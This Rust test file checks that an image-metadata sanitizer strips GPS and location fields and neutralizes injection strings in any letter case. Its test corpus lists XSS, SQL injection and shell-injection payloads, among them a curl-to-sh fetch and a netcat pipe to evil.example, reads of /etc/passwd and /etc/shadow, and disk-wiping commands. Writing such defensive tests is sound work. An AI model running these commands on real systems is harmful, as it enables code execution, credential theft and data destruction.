//! Property tests for metadata sanitization
//!
//! - location blocks never survive with GPS removal on
//! - a fixed injection corpus never survives, in any letter case
//! - sanitization either succeeds completely or fails

use proptest::prelude::*;
use provsign::sanitize::{
    AllowListMode, Category, MetadataValue, RawMetadata, SanitizationPolicy, categories, sanitize,
};
use std::collections::BTreeMap;

/// Substrings that must never appear in sanitized output
const BLOCKED: &[&str] = &[
    "<script",
    "</script",
    "javascript:",
    "vbscript:",
    "data:text/html",
    "<iframe",
    "<object",
    "<embed",
    "onerror=",
    "onload=",
    "drop table",
    "union select",
    "xp_cmdshell",
    "--",
    "/*",
    "*/",
    "'",
    "\"",
    ";",
    "`",
    "$(",
    "${",
    "|",
    "&&",
    "<",
    ">",
];

const INJECTION_CORPUS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>document.cookie</sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "javascript:alert(document.domain)",
    "JaVaScRiPt:void(0)",
    "<img src=x onerror=alert(1)>",
    "<body onload=steal()>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<object data=evil.swf></object>",
    "<embed src=evil.swf>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "1; DROP TABLE users; --",
    "admin'--",
    "1 UNION SELECT password FROM users",
    "'; EXEC xp_cmdshell('dir'); --",
    "1/**/OR/**/1=1",
    "x'; DELETE FROM photos WHERE '1'='1",
    "; rm -rf /",
    "$(curl http://evil.example/sh | sh)",
    "`cat /etc/passwd`",
    "a && shutdown -h now",
    "photo.jpg | nc evil.example 4444",
    "${IFS}cat${IFS}/etc/shadow",
    "test & del C:\\ /q",
    "dd if=/dev/zero of=/dev/sda",
];

fn assert_clean(text: &str) {
    let lower = text.to_lowercase();
    for blocked in BLOCKED {
        assert!(
            !lower.contains(blocked),
            "blocked substring {:?} survived in {:?}",
            blocked,
            text
        );
    }
}

fn all_text(fields: &BTreeMap<String, MetadataValue>, out: &mut Vec<String>) {
    for (name, value) in fields {
        out.push(name.clone());
        match value {
            MetadataValue::Text(s) => out.push(s.clone()),
            MetadataValue::Dictionary(inner) => all_text(inner, out),
            _ => {}
        }
    }
}

#[test]
fn test_injection_corpus_is_neutralized() {
    for policy in [
        SanitizationPolicy::default(),
        SanitizationPolicy {
            allow_list_mode: AllowListMode::Strict,
            ..SanitizationPolicy::default()
        },
    ] {
        let mut raw = RawMetadata::new();
        for (i, payload) in INJECTION_CORPUS.iter().enumerate() {
            raw.insert(format!("Comment{i}"), MetadataValue::Text(payload.to_string()));
        }
        // Strict mode drops the comments, a technical field still gets through
        raw.insert("ColorProfile", MetadataValue::Text(INJECTION_CORPUS[0].to_string()));

        let clean = sanitize(&raw, &policy).unwrap();
        let mut texts = Vec::new();
        all_text(clean.fields(), &mut texts);
        for text in &texts {
            assert_clean(text);
        }
    }
}

#[test]
fn test_injection_in_field_names() {
    let mut raw = RawMetadata::new();
    raw.insert("Title<script>", MetadataValue::Text("x".to_string()));
    raw.insert("Note`id`", MetadataValue::Text("y".to_string()));
    let clean = sanitize(&raw, &SanitizationPolicy::default()).unwrap();
    for name in clean.fields().keys() {
        assert_clean(name);
    }
}

fn gps_block() -> impl Strategy<Value = MetadataValue> {
    prop::collection::btree_map(
        prop::sample::select(vec![
            "Latitude",
            "Longitude",
            "Altitude",
            "LatitudeRef",
            "TimeStamp",
            "MapDatum",
            "DOP",
        ]),
        any::<f64>().prop_filter("finite", |f| f.is_finite()),
        1..6,
    )
    .prop_map(|fields| {
        MetadataValue::Dictionary(
            fields
                .into_iter()
                .map(|(k, v)| (k.to_string(), MetadataValue::Float(v)))
                .collect(),
        )
    })
}

fn location_field() -> impl Strategy<Value = (String, MetadataValue)> {
    prop_oneof![
        (
            prop::sample::select(vec!["GPS", "GPSInfo", "gps", "GPS_IFD", "Iptc4xmpCore:Location"]),
            gps_block()
        )
            .prop_map(|(name, block)| (name.to_string(), block)),
        (
            prop::sample::select(vec![
                "GPSLatitude",
                "GPSLongitude",
                "gps_altitude",
                "GPS:Latitude",
                "City",
                "Country",
                "LocationCreated",
                "GeoLocation",
            ]),
            "[ -~]{0,24}"
        )
            .prop_map(|(name, text)| (name.to_string(), MetadataValue::Text(text))),
    ]
}

fn benign_field() -> impl Strategy<Value = (String, MetadataValue)> {
    (
        prop::sample::select(vec![
            "Make",
            "Model",
            "Orientation",
            "PixelXDimension",
            "PixelYDimension",
            "ColorSpace",
            "ExposureTime",
            "FNumber",
            "ISOSpeedRatings",
            "Software",
        ]),
        prop_oneof![
            any::<i64>().prop_map(MetadataValue::Integer),
            "[A-Za-z0-9 .,:/-]{0,32}".prop_map(MetadataValue::Text),
        ],
    )
        .prop_map(|(name, value)| (name.to_string(), value))
}

proptest! {
    #[test]
    fn prop_gps_never_survives(
        location in prop::collection::vec(location_field(), 1..6),
        benign in prop::collection::vec(benign_field(), 0..8),
    ) {
        let mut raw = RawMetadata::new();
        for (name, value) in benign.into_iter().chain(location) {
            raw.insert(name, value);
        }

        let clean = sanitize(&raw, &SanitizationPolicy::default()).unwrap();
        for name in clean.fields().keys() {
            prop_assert_ne!(categories::classify(name), Some(Category::Location), "{}", name);
        }
        prop_assert!(clean.report().location_removed >= 1);
        prop_assert!(!clean.report().gps_retained);
    }

    #[test]
    fn prop_gps_opt_in_keeps_location(
        location in prop::collection::vec(location_field(), 1..4),
    ) {
        let mut raw = RawMetadata::new();
        for (name, value) in location {
            raw.insert(name, value);
        }
        let policy = SanitizationPolicy {
            remove_gps: false,
            ..SanitizationPolicy::default()
        };
        let clean = sanitize(&raw, &policy).unwrap();
        prop_assert_eq!(clean.report().location_removed, 0);
        prop_assert!(clean.report().gps_retained);
    }

    #[test]
    fn prop_corpus_case_variants_are_neutralized(
        index in 0..INJECTION_CORPUS.len(),
        flips in prop::collection::vec(any::<bool>(), 64),
        prefix in "[A-Za-z ]{0,8}",
    ) {
        let payload: String = INJECTION_CORPUS[index]
            .chars()
            .zip(flips.iter().cycle())
            .map(|(c, upper)| if *upper { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() })
            .collect();

        let mut raw = RawMetadata::new();
        raw.insert("UserComment", MetadataValue::Text(format!("{prefix}{payload}")));
        let clean = sanitize(&raw, &SanitizationPolicy::default()).unwrap();
        for text in clean.fields().values() {
            if let MetadataValue::Text(text) = text {
                assert_clean(text);
            }
        }
    }
}
